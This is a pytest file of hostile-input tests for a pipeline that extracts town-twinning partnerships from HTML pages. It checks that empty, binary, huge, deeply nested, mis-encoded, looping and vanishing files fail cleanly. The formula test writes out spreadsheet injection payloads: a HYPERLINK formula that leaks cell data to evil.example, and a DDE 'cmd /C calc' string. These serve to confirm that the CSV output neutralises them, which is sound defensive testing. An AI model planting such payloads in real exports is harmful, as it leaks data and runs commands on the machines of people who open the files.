"""Hostile inputs: each gives a clear per-file error or a correct result, never a crash
or a hang, and never loses the rows of the other pages.

Every case runs the real job (`runner.run`) on an input directory holding one good page
(Ghent's twin towns, from raw/) next to the hostile file; the good page's rows must come
out exactly as they do alone. The inputs are generated here (nothing large is committed).
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import shutil
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from pipeline import ingest
from pipeline.batch import EXIT_OK, EXIT_PARTIAL, BatchOptions
from pipeline.output import FORMULA_START
from pipeline.runner import run

ROOT = Path(__file__).resolve().parents[1]
REALWORLD = Path(__file__).resolve().parents[2] / "shared" / "realworld-html"
GOOD = "gent_twin-towns_en.html"
GOOD_URL = "https://stad.gent/en/international/twin-towns-and-sister-cities"
TIME_LIMIT = 20.0
FR = "<p>La commune d'Ath est jumelée avec la ville de Fès (Maroc) depuis 1998.</p>"


def html(body: str) -> str:
    return f"<!DOCTYPE html><html><head><title>Jumelages</title></head><body><main>{body}</main></body></html>"


def build(tmp: Path, files: dict[str, bytes], urls: dict[str, str] | None = None) -> Path:
    inp = tmp / "in"
    inp.mkdir()
    shutil.copy(ROOT / "raw" / GOOD, inp / GOOD)
    lines = ["file,url,nis", f"{GOOD},{GOOD_URL},44021"]
    for name, url in (urls or {}).items():
        lines.append(f'{name},"{url.replace(chr(34), chr(34) * 2)}",51004')
    (inp / "sources.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    for name, data in files.items():
        (inp / name).write_bytes(data)
    return inp


def outputs(out: Path) -> tuple[dict[str, dict[str, str]], list[dict[str, str]], dict[str, object]]:
    rows = {r["partnership_id"]: r for r in csv.DictReader(io.StringIO((out / "partnerships.csv").read_text()))}
    errors = list(csv.DictReader(io.StringIO((out / "errors.csv").read_text())))
    return rows, errors, json.loads((out / "run.json").read_text())


@pytest.fixture(scope="module")
def good_rows(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, str]]:
    tmp = tmp_path_factory.mktemp("good")
    inp = build(tmp, {})
    assert run(inp, tmp / "out", BatchOptions(progress=False)) == EXIT_OK
    rows = outputs(tmp / "out")[0]
    assert rows
    return rows


def run_case(tmp: Path, files: dict[str, bytes], good_rows: dict[str, dict[str, str]],
             urls: dict[str, str] | None = None, time_limit: float = TIME_LIMIT,
             inp: Path | None = None) -> tuple[int, dict[str, dict[str, str]], list[dict[str, str]]]:
    inp = inp or build(tmp, files, urls)
    start = time.monotonic()
    code = run(inp, tmp / "out", BatchOptions(progress=False, time_limit=time_limit))
    elapsed = time.monotonic() - start
    assert code in (EXIT_OK, EXIT_PARTIAL)
    rows, errors, report = outputs(tmp / "out")
    for pid, row in good_rows.items():  # the good page's rows, untouched
        assert rows.get(pid) == row
    assert elapsed < time_limit + 30, f"run took {elapsed:.1f} s"
    assert report["exit_code"] == code
    return code, rows, errors


def error_of(errors: list[dict[str, str]], source: str) -> dict[str, str]:
    found = [e for e in errors if e["source"] == source]
    assert len(found) == 1, errors
    assert found[0]["message"]
    return found[0]


def tanger(rows: dict[str, dict[str, str]]) -> dict[str, str]:
    found = [r for r in rows.values() if r["partner"] == "Fès"]
    assert found, sorted(r["partner"] for r in rows.values())
    assert found[0]["country_code"] == "MA"
    return found[0]


def test_empty_file(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    code, _, errors = run_case(tmp_path, {"empty.html": b""}, good_rows)
    assert code == EXIT_PARTIAL
    assert error_of(errors, "empty.html")["error_type"] == "DecodeError"


def test_binary_file_named_html(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    noise = random.Random(4).randbytes(64 * 1024)
    code, _, errors = run_case(tmp_path, {"photo.html": b"\x89PNG\r\n\x1a\n\x00\x00" + noise}, good_rows)
    assert code == EXIT_PARTIAL
    err = error_of(errors, "photo.html")
    assert (err["stage"], err["error_type"]) == ("text", "DecodeError") and "binary" in err["message"]


def test_50_mb_page_is_stopped_by_the_time_limit(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    para = (FR + "\n").encode()
    big = html("").encode().replace(b"<main>", b"<main>" + para * (50 * 1024 * 1024 // len(para) + 1))
    assert len(big) > 50 * 1024 * 1024
    limit = 5.0
    code, rows, errors = run_case(tmp_path, {"big.html": big}, good_rows, time_limit=limit)
    if code == EXIT_PARTIAL:  # stopped: a clear error naming the page and the limit
        err = error_of(errors, "big.html")
        assert err["error_type"] == "PageTimeout" and "5 s per-page time limit" in err["message"]
    else:  # a machine fast enough to finish it within the limit
        tanger(rows)


def test_10000_deep_nesting(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    deep = html("<div>" * 10_000 + FR + "</div>" * 10_000).encode()
    code, _, errors = run_case(tmp_path, {"deep.html": deep}, good_rows)
    assert code == EXIT_OK or error_of(errors, "deep.html")["error_type"]


def test_invalid_utf8(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    data = html(FR).encode().replace(b"depuis", b"\xff\xfe\xc3 depuis")
    code, rows, _ = run_case(tmp_path, {"invalid.html": data}, good_rows, urls={"invalid.html": "https://www.ath.be/j"})
    assert code == EXIT_OK
    tanger(rows)


def test_utf16_with_bom(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    text = html("<p>Onze gemeente is verbroederd met de stad Fès (Marokko) sinds 1998.</p>")
    code, rows, _ = run_case(tmp_path, {"utf16.html": "\ufeff".encode("utf-16-le") + text.encode("utf-16-le")},
                             good_rows, urls={"utf16.html": "https://www.ath.be/nl"})
    assert code == EXIT_OK
    assert tanger(rows)["year"] == "1998"


def test_windows_1252_text_file(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    text = "Relations internationales\n\nLa commune d’Ath est jumelée avec la ville de Fès (Maroc) depuis 1998 – « œuvre » commune.\n"
    code, rows, _ = run_case(tmp_path, {"cp1252.txt": text.encode("cp1252")}, good_rows,
                             urls={"cp1252.txt": "https://www.ath.be/t"})
    assert code == EXIT_OK
    assert "jumelée" in tanger(rows)["evidence"]


def test_formula_cells_are_neutralised(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    table = ("<h2>Jumelages</h2><table><tr><th>Ville</th><th>Pays</th><th>Depuis</th></tr>"
             '<tr><td>=HYPERLINK("http://evil.example/?leak="&A1,"Fès")</td><td>Maroc</td><td>1998</td></tr>'
             "<tr><td>+cmd|' /C calc'!A0</td><td>@SUM(1+1)</td><td>-2+3</td></tr></table>"
             "<p>La commune est jumelée avec =HYPERLINK(\"http://evil.example\",\"Douai\") (France).</p>")
    files = {"formula.html": html(table).encode(), "empty_formula.html": b""}
    urls = {"formula.html": "https://www.ath.be/f", "empty_formula.html": '=HYPERLINK("http://evil.example","x")'}
    run_case(tmp_path, files, good_rows, urls=urls)
    out = tmp_path / "out"
    for name in ("partnerships.csv", "partnership_domains.csv", "errors.csv", "changes.csv"):
        for line in csv.reader(io.StringIO((out / name).read_text())):
            for cell in line:
                assert not cell.startswith(FORMULA_START), (name, cell)
    errors = outputs(out)[1]
    assert error_of(errors, "'=HYPERLINK(\"http://evil.example\",\"x\")")["error_type"] == "DecodeError"


def test_symlink_loops(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    inp = build(tmp_path, {})
    (inp / "sub").mkdir()
    (inp / "sub" / "back").symlink_to("..", target_is_directory=True)  # directory loop
    (inp / "self.html").symlink_to("self.html")  # a file link that points at itself
    code, _, errors = run_case(tmp_path, {}, good_rows, inp=inp)
    assert code == EXIT_PARTIAL
    err = error_of(errors, "self.html")
    assert err["stage"] == "ingest" and err["error_type"] == "OSError"


def test_file_disappears_during_the_run(tmp_path: Path, good_rows: dict[str, dict[str, str]],
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    inp = build(tmp_path, {"gone.html": html(FR).encode(), "zz_after.html": html(FR).encode()},
                urls={"zz_after.html": "https://www.ath.be/z"})
    real_walk: Callable[[Path], object] = ingest._walk

    def walk_then_delete(directory: Path):  # type: ignore[no-untyped-def]
        for path in real_walk(directory):  # type: ignore[attr-defined]
            if path.name == "gone.html":
                os.unlink(path)  # listed by the walk, gone before it is read
            yield path

    monkeypatch.setattr(ingest, "_walk", walk_then_delete)
    code, rows, errors = run_case(tmp_path, {}, good_rows, inp=inp)
    assert code == EXIT_PARTIAL
    err = error_of(errors, "gone.html")
    assert (err["stage"], err["error_type"]) == ("ingest", "FileNotFoundError")
    tanger(rows)  # the page after it is still read


@pytest.mark.skipif(not REALWORLD.is_dir(), reason="../shared/realworld-html not present")
def test_realworld_pages_pass_through(tmp_path: Path) -> None:
    pages = [p for p in REALWORLD.rglob("*") if p.suffix.lower() in ingest.PAGE_SUFFIXES and p.is_file()]
    start = time.monotonic()
    code = run(REALWORLD, tmp_path / "out", BatchOptions(progress=False, time_limit=60))
    assert code in (EXIT_OK, EXIT_PARTIAL), "the run did not write a dataset"
    _, errors, report = outputs(tmp_path / "out")
    counts = report["counts"]
    assert isinstance(counts, dict)
    assert counts["pages_seen"] == len(pages) and counts["failed"] == len(errors)
    assert counts["timed_out"] == 0, errors
    assert all(e["error_type"] and e["message"] for e in errors)
    assert time.monotonic() - start < 600
